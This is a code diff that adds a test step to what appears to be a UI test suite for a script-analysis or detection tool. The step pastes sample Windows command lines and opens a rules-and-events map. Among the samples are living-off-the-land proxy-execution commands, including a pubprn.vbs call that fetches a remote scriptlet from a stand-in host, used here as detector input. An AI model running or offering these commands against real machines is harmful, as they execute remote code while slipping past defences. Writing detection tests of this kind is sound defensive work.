@@ -309,6 +309,23 @@ export const states = [
     },
   },
   {
+    name: 'map',
+    reach: async (page) => {
+      const lines = [
+        'cscript C:\\Tools\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct',
+        'wscript manage-bde.wsf',
+        'notepad.exe',
+        'powershell.exe -Command SyncInvoke calc',
+        'cscript //b x.vbs',
+        'notepad.exe',
+      ];
+      await paste(page, Array.from({ length: 240 }, (_, at) => lines[(at * at + (at >> 3)) % 6]).join('\n'));
+      await pane(page, 'Verdicts');
+      await page.getByText('Map of rules and events').click();
+      await page.getByText('As a table').click();
+    },
+  },
+  {
     name: 'compare',
     reach: async (page) => {
       await paste(page, 'cscript a.vbs\nwscript b.wsf\ncscript c.vbs d.wsf\nwscript C:\\Windows\\x.vbs');
